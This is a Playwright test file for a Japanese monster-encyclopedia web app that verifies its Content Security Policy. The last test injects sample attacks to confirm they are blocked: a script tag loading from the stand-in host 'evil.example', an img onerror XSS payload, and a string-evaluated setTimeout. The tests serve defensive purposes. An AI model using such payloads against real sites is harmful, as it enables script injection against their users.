import type { Page } from "@playwright/test";
import { API_URL, AUTH_URL } from "./support/addresses.ts";
import { expect, signIn, test } from "./support/test.ts";

test.use({ serviceWorkers: "allow" });

/** Collects what the browser blocks because of the page's policy. */
async function watchViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction("reportViolation", (violation: string) => violations.push(violation));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const { effectiveDirective, blockedURI, sample } = event;
      Reflect.get(window, "reportViolation")(`${effectiveDirective} ${blockedURI} ${sample}`);
    });
  });
  page.on("console", (message) => {
    if (/Content.Security.Policy|TrustedScript|Trusted Type/i.test(message.text())) {
      violations.push(message.text());
    }
  });
  return violations;
}

test("the whole app, including sign-in by popup, runs without violating its security policy", async ({
  page,
}) => {
  const violations = await watchViolations(page);
  await page.goto("/");
  await expect(page.getByText("API接続成功: healthy")).toBeVisible();
  await page.waitForFunction(async () => (await navigator.serviceWorker.ready).active !== null);
  await page.getByRole("link", { name: "図鑑を見る" }).click();
  await page.getByRole("searchbox").fill("sumibi");
  await page.getByRole("button", { name: "スミビネコを比較に加える" }).click();
  await page.getByRole("link", { name: "スミビネコの詳細を見る" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "スミビネコ" })).toBeVisible();
  await page.keyboard.press("ArrowRight");
  await page.getByRole("link", { name: /比較する|比べる/ }).click();
  await expect(page.getByRole("table")).toBeVisible();
  await page.getByRole("button", { name: "ダーク" }).click();
  await page.getByRole("button", { name: "English" }).click();
  await page.getByRole("button", { name: "Keyboard" }).click();
  await page.getByRole("dialog").getByRole("button").click();
  await page.goto("/no/such/page");
  await page.getByRole("button", { name: "日本語" }).click();
  await page.goto("/profile?a=1");
  await signIn(page, { email: "policy@example.com", name: "方針" });
  await expect(page.getByRole("heading", { level: 1, name: "マイページ" })).toBeVisible();
  await page.reload();
  await page.getByRole("button", { name: "方針のユーザーメニュー" }).click();
  await page.getByRole("button", { name: "ログアウト" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "ログイン" })).toBeVisible();
  expect(violations).toEqual([]);
});

test("the policy allows only what the app needs", async ({ request }) => {
  for (const path of ["/", "/monsters", "/login", "/monsters/1", "/no/such/page"]) {
    const policy = (await request.get(path)).headers()["content-security-policy"] ?? "";
    const directives = new Map(
      policy.split("; ").map((directive) => {
        const [name = "", ...sources] = directive.split(" ");
        return [name, sources];
      }),
    );
    expect(directives.get("default-src"), path).toEqual(["'none'"]);
    expect(directives.get("frame-ancestors"), path).toEqual(["'none'"]);
    expect(directives.get("require-trusted-types-for"), path).toEqual(["'script'"]);
    expect(directives.get("connect-src"), path).toEqual([
      "'self'",
      API_URL,
      "https://identitytoolkit.googleapis.com",
      "https://securetoken.googleapis.com",
      AUTH_URL,
    ]);
    const scripts = directives.get("script-src") ?? [];
    expect(
      scripts.filter((source) => !source.startsWith("'sha256-")),
      path,
    ).toEqual(["'self'", "https://apis.google.com"]);
  }
});

test("an injected script does not run", async ({ page }) => {
  const violations = await watchViolations(page);
  await page.goto("/monsters");
  await expect(page.getByRole("link", { name: "ヒノコリスの詳細を見る" })).toBeVisible();
  const outcome = await page.evaluate(() => {
    const attempt = (attack: () => void) => {
      try {
        attack();
        return "allowed";
      } catch (error) {
        return error instanceof Error ? error.name : String(error);
      }
    };
    const outcomes = [
      attempt(() => {
        const script = document.createElement("script");
        script.src = "https://evil.example/x.js";
        document.body.append(script);
      }),
      attempt(() => {
        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.smuggled=1'>");
      }),
      attempt(() => {
        Reflect.apply(setTimeout, window, ["window.smuggled=1", 0]);
      }),
    ];
    return outcomes;
  });
  expect(outcome).toEqual(["TypeError", "TypeError", "TypeError"]);
  await page.waitForTimeout(200);
  expect(await page.evaluate(() => Reflect.get(window, "smuggled"))).toBeUndefined();
  expect(violations.length).toBeGreaterThan(0);
});
